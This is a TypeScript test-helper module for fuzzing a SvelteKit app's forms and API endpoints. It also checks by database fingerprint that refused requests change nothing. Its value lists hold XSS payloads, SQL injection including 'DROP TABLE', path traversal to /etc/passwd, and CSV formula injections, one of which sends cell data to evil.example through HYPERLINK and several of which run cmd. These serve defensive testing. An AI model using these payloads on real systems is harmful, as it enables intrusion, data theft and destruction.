import { readdirSync, readFileSync, statSync } from 'node:fs';
import path from 'node:path';
import fc from 'fast-check';
import type postgres from 'postgres';

/**
 * Helpers for the hostile-input test (hostile-input.test.ts): discovering form actions and API endpoints from src/routes,
 * reading a form out of server-rendered HTML (so each action is fuzzed from a submission the page itself would send),
 * hostile values for fast-check, and a fingerprint of the database to prove that a refused request wrote nothing.
 */

/** Route id of a folder below src/routes, without (groups). */
function routeIdOf(root: string, dir: string): string {
	const parts = path
		.relative(root, dir)
		.split(path.sep)
		.filter((s) => s && !/^\(.*\)$/.test(s));
	return '/' + parts.join('/');
}

function walk(dir: string, file: string, found: string[] = []): string[] {
	for (const name of readdirSync(dir)) {
		const full = path.join(dir, name);
		if (statSync(full).isDirectory()) walk(full, file, found);
		else if (name === file) found.push(full);
	}
	return found;
}

/**
 * Every form action of the app as "routeId ?/name" ("default" for a default action), read from the source of each
 * +page.server.ts: the top-level keys of `export const actions = { ... }` (prettier puts them one tab deep).
 */
export function discoverActions(root = path.resolve('src/routes')): string[] {
	const keys: string[] = [];
	for (const file of walk(root, '+page.server.ts')) {
		const source = readFileSync(file, 'utf8');
		const start = source.search(/export const actions\b/);
		if (start < 0) continue;
		const block = source.slice(start).split(/\n\};?\s*(\n|$)/)[0];
		const names = [...block.matchAll(/^\t(?:async\s+)?([A-Za-z_$][\w$]*)\s*[:(]/gm)].map((m) => m[1]);
		if (names.length === 0)
			throw new Error(`Geen acties gevonden in ${file}: herken het formaat van actions`);
		for (const name of names) keys.push(`${routeIdOf(root, path.dirname(file))} ?/${name}`);
	}
	return keys.sort();
}

/** Every method handler of every +server.ts below src/routes/api as "METHOD routeId". */
export function discoverApiEndpoints(root = path.resolve('src/routes')): string[] {
	const keys: string[] = [];
	for (const file of walk(path.join(root, 'api'), '+server.ts')) {
		const source = readFileSync(file, 'utf8');
		const methods = [
			...source.matchAll(
				/export\s+(?:const|async function|function)\s+(GET|POST|PUT|PATCH|DELETE|HEAD|OPTIONS|fallback)\b/g
			)
		].map((m) => m[1]);
		for (const method of methods) keys.push(`${method} ${routeIdOf(root, path.dirname(file))}`);
	}
	return keys.sort();
}

// --- Reading a form from HTML -------------------------------------------------------------------------------------

export function decodeEntities(text: string): string {
	return text.replace(/&(#x[0-9a-f]+|#\d+|amp|lt|gt|quot|apos|nbsp);/gi, (_, code: string) => {
		const c = code.toLowerCase();
		if (c === 'amp') return '&';
		if (c === 'lt') return '<';
		if (c === 'gt') return '>';
		if (c === 'quot') return '"';
		if (c === 'apos') return "'";
		if (c === 'nbsp') return '\u00a0';
		return String.fromCodePoint(c.startsWith('#x') ? parseInt(c.slice(2), 16) : parseInt(c.slice(1), 10));
	});
}

function attributes(source: string): Record<string, string> {
	const attrs: Record<string, string> = {};
	for (const m of source.matchAll(/([^\s=/>]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+)))?/g))
		attrs[m[1].toLowerCase()] = decodeEntities(m[2] ?? m[3] ?? m[4] ?? '');
	return attrs;
}

export type FormEntries = [string, string][];

/**
 * The entries a browser would submit for the first POST form of `action` ('default': a form without "?/name") that posts to `page`:
 * text inputs, hidden inputs, textareas, the selected (or first non-empty) option of each select, checked checkboxes,
 * the checked (or first) radio of each group, and the first named submit button. Null when the page has no such form.
 */
export function readForm(html: string, action: string, page: string): FormEntries | null {
	const pathname = page.split('?')[0];
	for (const m of html.matchAll(/<form\b([^>]*)>([\s\S]*?)<\/form>/g)) {
		const attrs = attributes(m[1]);
		if ((attrs.method ?? 'get').toLowerCase() !== 'post') continue;
		const target = attrs.action ?? '';
		// A form that posts elsewhere (the header's logout form) is not this page's.
		const targetPath = target.split('?')[0];
		if (targetPath && targetPath !== pathname) continue;
		const named = /\?\/([\w$]+)/.exec(target)?.[1];
		if ((action === 'default' && named) || (action !== 'default' && named !== action)) continue;
		return formEntries(m[2]);
	}
	return null;
}

function formEntries(body: string): FormEntries {
	const entries: FormEntries = [];
	const radios = new Map<string, { value: string; checked: boolean }[]>();
	let button: [string, string] | null = null;
	const tokens = /<(?:(input)\b([^>]*)>|(textarea|select|button)\b([^>]*)>([\s\S]*?)<\/\3>)/g;
	for (const m of body.matchAll(tokens)) {
		const tag = m[1] ?? m[3];
		const attrs = attributes(m[2] ?? m[4]);
		const content = m[5] ?? '';
		const name = attrs.name;
		if (!name || 'disabled' in attrs) continue;
		if (tag === 'textarea') entries.push([name, decodeEntities(content)]);
		else if (tag === 'select') {
			const options = [...content.matchAll(/<option\b([^>]*)>([\s\S]*?)<\/option>/g)].map((o) => {
				const a = attributes(o[1]);
				return { value: a.value ?? decodeEntities(o[2]).trim(), selected: 'selected' in a };
			});
			const chosen = options.find((o) => o.selected) ?? options.find((o) => o.value !== '') ?? options[0];
			if ('multiple' in attrs) {
				for (const o of options.filter((o) => o.selected)) entries.push([name, o.value]);
			} else if (chosen) entries.push([name, chosen.value]);
		} else if (tag === 'button') {
			if ((attrs.type ?? 'submit') === 'submit' && !button) button = [name, attrs.value ?? ''];
		} else {
			const type = (attrs.type ?? 'text').toLowerCase();
			if (type === 'checkbox') {
				if ('checked' in attrs) entries.push([name, attrs.value ?? 'on']);
			} else if (type === 'radio') {
				const group = radios.get(name) ?? [];
				group.push({ value: attrs.value ?? 'on', checked: 'checked' in attrs });
				radios.set(name, group);
			} else if (type === 'submit' || type === 'image') {
				if (!button) button = [name, attrs.value ?? ''];
			} else if (type !== 'file' && type !== 'reset' && type !== 'button') {
				entries.push([name, attrs.value ?? '']);
			}
		}
	}
	for (const [name, group] of radios) entries.push([name, (group.find((r) => r.checked) ?? group[0]).value]);
	if (button) entries.push(button);
	return entries;
}

// --- Hostile values --------------------------------------------------------------------------------------------------

/** Marks the markup we inject, so a page or export that shows it raw is recognised without false alarms. */
export const MARK = 'hx7q';

/** Markup that would run if a page put it in its HTML unescaped. */
export const markupInjections = [
	`<script>alert("${MARK}")</script>`,
	`<img src=x onerror=alert("${MARK}")>`,
	`"><svg onload=alert("${MARK}")>`,
	`'><iframe srcdoc="<script>alert('${MARK}')</script>">`,
	`javascript:alert("${MARK}")`
];

/** Raw-markup signatures of the injections above: none of them may appear in a page's HTML. */
export const rawMarkupSignatures = [
	`<script>alert("${MARK}")`,
	`<img src=x onerror=alert("${MARK}")`,
	`<svg onload=alert("${MARK}")`,
	`<iframe srcdoc=`,
	`href="javascript:alert("${MARK}")`,
	`href="javascript:alert(&quot;${MARK}`
];

/** Spreadsheet formulas (CSV injection): an export must neutralise them. */
export const formulaInjections = [
	`=HYPERLINK("http://evil.example/?${MARK}="&A1;"Klik hier")`,
	`+cmd|' /C calc'!A0 ${MARK}`,
	`-2+3+cmd|' /C calc'!A0 ${MARK}`,
	`@SUM(1+1)*cmd|' /C calc'!A0 ${MARK}`,
	`\t=1+1 ${MARK}`,
	`\r=1+1 ${MARK}`
];

const otherInjections = [
	"'; DROP TABLE organisations; --",
	"' OR '1'='1",
	'1; SELECT pg_sleep(0)',
	'a\u0000b',
	'\u0000',
	'\ud800',
	'x\udfffy',
	'\ufeff\u200b\u202eevil\u202c',
	'𝔘𝔫𝔦𝔠𝔬𝔡𝔢 🙂👩‍👩‍👧 ǅ ß ﬀ İ',
	'../../etc/passwd',
	'%00%ff%',
	'${7*7}{{7*7}}<%= 7*7 %>',
	'__proto__',
	'constructor',
	' ',
	'',
	'null',
	'undefined',
	'NaN',
	'Infinity',
	'-1',
	'0',
	'1e309',
	'99999999999999999999999',
	'0x10',
	'true',
	'[]',
	'{}',
	'2026-02-30',
	'00000000-0000-0000-0000-000000000000',
	'not-a-uuid'
];

export const injectionStrings = [...markupInjections, ...formulaInjections, ...otherInjections];

/** A lone UTF-16 surrogate, which has no UTF-8 form. */
const loneSurrogate = fc.integer({ min: 0xd800, max: 0xdfff }).map((c) => `a${String.fromCharCode(c)}b`);

/** Hostile strings: injections, random unicode (every plane, control characters), lone surrogates, very long strings. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
	{ weight: 5, arbitrary: fc.constantFrom(...injectionStrings) },
	{ weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
	{ weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 30 }) },
	{ weight: 1, arbitrary: loneSurrogate },
	{
		weight: 1,
		arbitrary: fc
			.tuple(fc.constantFrom('x', 'é', '<', '=', '🙂', "'"), fc.integer({ min: 1_000, max: 60_000 }))
			.map(([c, n]) => c.repeat(n))
	}
);

/** The value of one form field in a hostile submission. */
export type FieldMutation =
	| { kind: 'keep' }
	| { kind: 'drop' }
	| { kind: 'string'; value: string }
	| { kind: 'array'; values: string[] }
	| { kind: 'file'; value: string };

export const fieldMutation: fc.Arbitrary<FieldMutation> = fc.oneof(
	{ weight: 3, arbitrary: fc.constant({ kind: 'keep' as const }) },
	{ weight: 1, arbitrary: fc.constant({ kind: 'drop' as const }) },
	{ weight: 4, arbitrary: hostileString.map((value) => ({ kind: 'string' as const, value })) },
	{
		weight: 1,
		arbitrary: fc
			.array(hostileString, { minLength: 2, maxLength: 3 })
			.map((values) => ({ kind: 'array' as const, values }))
	},
	{ weight: 1, arbitrary: hostileString.map((value) => ({ kind: 'file' as const, value })) }
);

export type Encoding = 'urlencoded' | 'multipart' | 'json' | 'text' | 'none';

/** A hostile form submission: per field of the real form a mutation, extra fields, and how it is encoded. */
export interface HostileSubmission {
	mutations: FieldMutation[];
	extra: [string, string][];
	encoding: Encoding;
	/** The answer format: SvelteKit's JSON (use:enhance) or HTML (a browser without JavaScript). */
	enhanced: boolean;
}

export const hostileSubmission: fc.Arbitrary<HostileSubmission> = fc.record({
	mutations: fc.array(fieldMutation, { minLength: 40, maxLength: 40 }),
	extra: fc.array(
		fc.tuple(
			fc.oneof(fc.constantFrom('id', '__proto__', 'role', 'organisationId', 'x[]'), hostileString),
			hostileString
		),
		{ maxLength: 2 }
	),
	encoding: fc.constantFrom<Encoding>(
		'urlencoded',
		'urlencoded',
		'multipart',
		'multipart',
		'json',
		'text',
		'none'
	),
	enhanced: fc.boolean()
});

/** One field's value in a form body: text, or a file upload. */
export type BodyEntry = [string, string | { file: string }];

/** Applies a submission's mutations to the form's own entries (field i gets mutation i). */
export function mutateEntries(base: FormEntries, submission: HostileSubmission): BodyEntry[] {
	const out: BodyEntry[] = [];
	base.forEach(([name, value], i) => {
		const mutation = submission.mutations[i % submission.mutations.length];
		switch (mutation.kind) {
			case 'keep':
				out.push([name, value]);
				break;
			case 'drop':
				break;
			case 'string':
				out.push([name, mutation.value]);
				break;
			case 'array':
				for (const v of mutation.values) out.push([name, v]);
				break;
			case 'file':
				out.push([name, { file: mutation.value }]);
		}
	});
	for (const [name, value] of submission.extra) out.push([name, value]);
	return out;
}

/** application/x-www-form-urlencoded, with lone surrogates sent as the raw (invalid UTF-8) bytes a hostile client can send. */
export function urlencode(entries: BodyEntry[]): string {
	const encode = (s: string) =>
		[...s]
			.map((ch) => {
				const code = ch.charCodeAt(0);
				if (ch.length === 1 && code >= 0xd800 && code <= 0xdfff)
					return [0xe0 | (code >> 12), 0x80 | ((code >> 6) & 0x3f), 0x80 | (code & 0x3f)]
						.map((b) => '%' + b.toString(16).toUpperCase())
						.join('');
				return encodeURIComponent(ch);
			})
			.join('');
	return entries.map(([k, v]) => `${encode(k)}=${encode(typeof v === 'string' ? v : v.file)}`).join('&');
}

export function multipart(entries: BodyEntry[]): FormData {
	const form = new FormData();
	for (const [k, v] of entries) {
		if (typeof v === 'string') form.append(k, v);
		else form.append(k, new Blob([v.file], { type: 'text/csv' }), 'bestand.csv');
	}
	return form;
}

// --- Database fingerprint --------------------------------------------------------------------------------------------

/**
 * Tables that a refused request may legitimately change, left out of the fingerprint:
 * - sessions: a request with a session cookie refreshes its expiry (sliding sessions);
 * - rate_limits: refused logins and API calls are counted, that is their purpose;
 * - audit_log: who tried what is recorded (e.g. refused logins), and the log itself is append-only.
 * Columns that only record use: api_tokens.last_used_at (a valid token used in a refused call).
 */
export const VOLATILE_TABLES = ['sessions', 'rate_limits', 'audit_log'];
export const VOLATILE_COLUMNS: Record<string, string[]> = { api_tokens: ['last_used_at'] };

export type Fingerprint = Record<string, string>;

/** Row count and a hash of every row of every table (except the volatile ones), in one query. */
export async function fingerprintQuery(sql: postgres.Sql): Promise<() => Promise<Fingerprint>> {
	const tables = (
		await sql<{ table_name: string }[]>`
			select table_name from information_schema.tables
			where table_schema = 'public' and table_type = 'BASE TABLE' order by table_name`
	)
		.map((t) => t.table_name)
		.filter((t) => !VOLATILE_TABLES.includes(t));
	const parts = tables.map((t) => {
		const drop = (VOLATILE_COLUMNS[t] ?? []).map((c) => ` - '${c}'`).join('');
		return `select '${t}' as t, count(*) || ':' || coalesce(md5(string_agg(md5((to_jsonb(r)${drop})::text), '' order by md5((to_jsonb(r)${drop})::text))), '') as h from "${t}" r`;
	});
	const query = parts.join(' union all ');
	return async () => {
		const rows = await sql.unsafe<{ t: string; h: string }[]>(query);
		return Object.fromEntries(rows.map((r) => [r.t, r.h]));
	};
}

export function fingerprintDiff(before: Fingerprint, after: Fingerprint): string[] {
	return Object.keys({ ...before, ...after }).filter((t) => before[t] !== after[t]);
}

// --- CSV ---------------------------------------------------------------------------------------------------------------

/** Cells of a semicolon CSV (quotes doubled inside quoted cells). */
export function csvCells(text: string): string[] {
	const cells: string[] = [];
	let cell = '';
	let quoted = false;
	const body = text.replace(/^\uFEFF/, '');
	for (let i = 0; i < body.length; i++) {
		const ch = body[i];
		if (quoted) {
			if (ch === '"' && body[i + 1] === '"') {
				cell += '"';
				i++;
			} else if (ch === '"') quoted = false;
			else cell += ch;
		} else if (ch === '"' && cell === '') quoted = true;
		else if (ch === ';' || ch === '\n') {
			cells.push(cell);
			cell = '';
		} else if (ch === '\r' && body[i + 1] === '\n') continue;
		else cell += ch;
	}
	if (cell) cells.push(cell);
	return cells;
}

/** Cells a spreadsheet would run as a formula. A leading minus is fine for a plain number (a surplus in a capacity export). */
export function formulaCells(text: string): string[] {
	return csvCells(text).filter((c) => /^[=+@\t\r]/.test(c) || (/^-/.test(c) && !/^-\d+(,\d+)?$/.test(c)));
}
